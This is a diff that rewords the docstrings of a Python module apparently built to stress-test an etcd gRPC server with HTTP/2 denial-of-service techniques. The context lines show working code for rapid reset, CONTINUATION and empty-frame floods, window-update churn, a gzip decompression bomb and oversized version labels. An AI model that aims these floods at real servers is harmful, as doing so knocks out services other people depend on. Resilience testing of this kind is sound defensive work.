@@ -1,4 +1,4 @@
-"""Attacks by the frames of HTTP/2: each is cheap to send, and some are costly to process."""
+"""Attacks by HTTP/2 frames: each frame is cheap to send, and some are costly to process."""
 
 import gzip
 import time
@@ -35,7 +35,7 @@ LABEL_BYTES = 900_000
 
 
 def flood(wire: Wire, each: bytes, count: int, deadline: float, what: str) -> Seen:
-    """Send a frame again and again, until the server ends it."""
+    """Send a frame `count` times, or until the server closes the connection."""
     sent = 0
     for _ in range(0, count, BATCH):
         sent += wire.send(each * min(BATCH, count), deadline) // len(each)
@@ -47,12 +47,12 @@ def flood(wire: Wire, each: bytes, count: int, deadline: float, what: str) -> Se
 
 
 def _is_alive(wire: Wire, deadline: float) -> bool:
-    """Return whether a call on the same connection is answered."""
+    """Return whether the server answers a call on the same connection."""
     return wire.answered(wire.call(RANGE, b"\x0a\x01k", deadline), deadline) == "0"
 
 
 def rapid_reset(target: Target, count: int, deadline: float) -> Seen:
-    """Open streams with a call each, and cancel each at once."""
+    """Open streams with a call each, and cancel each immediately."""
     body = frame(DATA, END_STREAM, 0, message(b"\x0a\x01k"))
     sent = 0
     with Wire(target.client) as wire:
@@ -86,7 +86,7 @@ def pings_unread(target: Target, count: int, deadline: float) -> Seen:
 
 
 def settings(target: Target, count: int, deadline: float) -> Seen:
-    """Change the windows back and forth without a pause."""
+    """Change the window size back and forth without a pause."""
     with Wire(target.client) as wire:
         wire.call(WATCH, CREATE, deadline, end=False)
         changes = b"".join(
@@ -97,7 +97,7 @@ def settings(target: Target, count: int, deadline: float) -> Seen:
 
 
 def continuations(target: Target, count: int, deadline: float) -> Seen:
-    """Begin a request, and never end its headers: a kilobyte more with each frame."""
+    """Start a request with endless headers: each frame adds a kilobyte."""
     with Wire(target.client) as wire:
         wire.send(frame(HEADERS, 0, wire.next_stream(), RANGE), deadline)
         more = frame(CONTINUATION, 0, 1, literal(b"x", bytes([0x61]) * 1000))
@@ -110,7 +110,7 @@ def continuations(target: Target, count: int, deadline: float) -> Seen:
 
 
 def empty_continuations(target: Target, count: int, deadline: float) -> Seen:
-    """Begin a request, and never end its headers: with frames that hold nothing."""
+    """Start a request with endless headers: each frame is empty."""
     with Wire(target.client) as wire:
         wire.send(frame(HEADERS, 0, wire.next_stream(), RANGE), deadline)
         more = frame(CONTINUATION, 0, 1)
@@ -123,14 +123,14 @@ def empty_continuations(target: Target, count: int, deadline: float) -> Seen:
 
 
 def empty_data(target: Target, count: int, deadline: float) -> Seen:
-    """Send frames of data without data on a stream."""
+    """Send empty DATA frames on a stream."""
     with Wire(target.client) as wire:
         stream = wire.call(WATCH, CREATE, deadline, end=False)
         return flood(wire, frame(DATA, 0, stream), count, deadline, "empty frames")
 
 
 def empty_messages(target: Target, count: int, deadline: float) -> Seen:
-    """Send messages without a byte on a watch stream."""
+    """Send empty messages on a watch stream."""
     with Wire(target.client) as wire:
         stream = wire.call(WATCH, CREATE, deadline, end=False)
         wire.say(stream, message(b"") * count + message(CREATE), deadline)
@@ -140,7 +140,7 @@ def empty_messages(target: Target, count: int, deadline: float) -> Seen:
 
 
 def window_updates(target: Target, count: int, deadline: float) -> Seen:
-    """Give credit by the byte, to a stream and to the connection."""
+    """Grant window credit byte by byte, to a stream and to the connection."""
     with Wire(target.client, window=FRAME_BYTES) as wire:
         stream = wire.call(WATCH, CREATE, deadline, end=False)
         one = (1).to_bytes(4, "big")
@@ -149,8 +149,8 @@ def window_updates(target: Target, count: int, deadline: float) -> Seen:
 
 
 def gzip_bomb(target: Target, count: int, deadline: float) -> Seen:
-    """Send messages on a watch stream that are a thousand times as large unpacked."""
-    # Zeros in a field that nobody knows, as many as a request may have.
+    """Send messages on a watch stream that grow a thousandfold when decompressed."""
+    # Zeros in an unknown field, as many as a request may have.
     inner = b"\x7a" + varint(UNPACKED_BYTES) + bytes(UNPACKED_BYTES)
     packed = gzip.compress(inner, 9)
     block = head(b"/etcdserverpb.Watch/Watch", (b"grpc-encoding", b"gzip"))
@@ -165,7 +165,7 @@ def gzip_bomb(target: Target, count: int, deadline: float) -> Seen:
 
 
 def version_labels(target: Target, count: int, deadline: float) -> Seen:
-    """Call with a `client-api-version` of 900 KB, another one each time."""
+    """Make calls with a different `client-api-version` of 900 KB each."""
     with Wire(target.client) as wire:
         for number in range(count):
             label = b"%08d" % number + b"9" * LABEL_BYTES
